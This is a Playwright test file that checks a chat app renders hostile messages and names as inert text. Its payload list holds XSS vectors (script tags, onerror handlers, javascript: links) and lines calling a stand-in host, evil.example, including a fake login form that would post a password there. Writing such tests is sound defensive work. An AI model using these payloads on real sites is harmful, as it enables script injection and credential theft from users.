import type { Page } from '@playwright/test';
import { composer, direct, expect, group, history, openChat, row, say, screens, test } from './harness';

/** Each tries to run something, or to fetch something from elsewhere. */
const attacks = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '<svg onload="window.hacked = 1"><animate onbegin="window.hacked = 1">',
  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  '<style>* { display: none }</style><link rel=stylesheet href=https://evil.example/x.css>',
  '[press](javascript:window.hacked=1) [and](data:text/html,<script>window.hacked=1</script>)',
  '[spaced]( java\nscript:window.hacked=1 ) <javascript:window.hacked=1>',
  '![picture](https://evil.example/pixel.png) ![x](x "onerror=window.hacked=1")',
  '```"><img src=x onerror=window.hacked=1>\ncode\n```',
  '| <img src=x onerror=window.hacked=1> |\n|-|\n| <b onmouseover=window.hacked=1>b</b> |',
  '<form action=https://evil.example><input name=password><button>Log in</button></form>',
  '<a href="https://fine.example" onclick="window.hacked=1" style="position:fixed;inset:0">fine</a>',
];

/** Each tries to take more room, or time, than a message has. */
const pressing = [
  'a'.repeat(5_000),
  '宽'.repeat(2_000),
  'Z̵̡̛̗̘' + '\u0301'.repeat(500),
  '\u202Egnp.exe\u2066',
  '> '.repeat(400) + 'deep',
  '**a '.repeat(4_000),
  Array.from({ length: 60 }, (_, depth) => `${'  '.repeat(depth)}- item`).join('\n'),
  `| ${'wide | '.repeat(60)}\n|${'-|'.repeat(60)}`,
  '`' + 'code'.repeat(800) + '`',
  'https://long.example/' + 'path/'.repeat(300),
];

/** What policies forbid is told to the page: nothing of a stranger's should get even that far. */
async function watched(page: Page): Promise<() => Promise<unknown>> {
  await page.addInitScript(() => {
    const violations: string[] = [];
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
      violations.push(`${violatedDirective}: ${blockedURI}`),
    );
    Object.assign(window, { violations });
  });
  return () =>
    page.evaluate(() => {
      const { violations, hacked } = window as unknown as { violations: string[]; hacked?: number };
      return { violations, hacked };
    });
}

const overflow = (page: Page) =>
  page.evaluate(() => {
    const log = document.querySelector('[role=log]')!;
    const edge = log.getBoundingClientRect().right + 1;
    const outside = [...log.querySelectorAll('[role=listitem]')].filter(
      (item) => item.getBoundingClientRect().right > edge,
    );
    const { scrollWidth, clientWidth } = document.scrollingElement!;
    return { outside: outside.length, page: scrollWidth - clientWidth, log: log.scrollWidth - log.clientWidth };
  });

for (const [size, screen] of [
  ['desktop', screens.desktop],
  ['phone', screens.phone],
] as const)
  test(`what a hostile message says is said and not done, on a ${size}`, async ({ person, someone }) => {
    const [ann, mallory] = [await person('Ann', screen), await someone('Mallory')];
    const conversation = await direct(mallory, ann);
    const result = await watched(ann.page);
    ann.page.on('dialog', (dialog) => expect(dialog.message(), 'a dialog was opened').toBe(''));
    for (const text of [...pressing, ...attacks]) await say(mallory, conversation, text);
    await say(mallory, conversation, 'that was all');

    await openChat(ann.page, conversation);
    // From the first unread down to the last, a view at a time.
    await expect(async () => {
      expect(await overflow(ann.page)).toEqual({ outside: 0, page: 0, log: 0 });
      await history(ann.page).evaluate((log) => log.scrollBy(0, log.clientHeight));
      await expect(history(ann.page).getByText('that was all')).toBeInViewport({ timeout: 50 });
    }).toPass();
    const links = await history(ann.page)
      .locator('a[href]')
      .evaluateAll((all) =>
        all.map((link) => ({ to: (link as HTMLAnchorElement).protocol, rel: (link as HTMLAnchorElement).rel })),
      );
    for (const { to, rel } of links) expect([to, rel]).toEqual(['https:', expect.stringContaining('noopener')]);
    await expect(history(ann.page).locator('script, style, img[src^=http], iframe, form, input')).toHaveCount(0);
    expect(await result()).toEqual({ violations: [], hacked: undefined });

    // The page is as quick and as whole as before.
    await composer(ann.page).fill('nice try');
    await ann.page.getByRole('button', { name: 'Send', exact: true }).click();
    await expect(history(ann.page).getByRole('listitem', { name: 'nice try' })).toBeVisible();
  });

test('a hostile name stays where a name is', async ({ person, someone }) => {
  const ann = await person('Ann');
  const name = '<b>x</b>\u202E' + '宽'.repeat(20) + 'Z' + '\u0301'.repeat(4);
  const mallory = await someone(name.slice(0, 64));
  const result = await watched(ann.page);
  const title = '<img src=x onerror=window.hacked=1> ' + 'W'.repeat(60);
  const conversation = await group(mallory, title, [ann]);
  await say(mallory, conversation, 'hello');

  await openChat(ann.page, conversation);
  await expect(history(ann.page).getByRole('listitem', { name: /hello/ })).toBeVisible();
  await expect(row(ann.page, '<img src=x')).toBeVisible();
  expect(await overflow(ann.page)).toEqual({ outside: 0, page: 0, log: 0 });
  expect(await result()).toEqual({ violations: [], hacked: undefined });
});
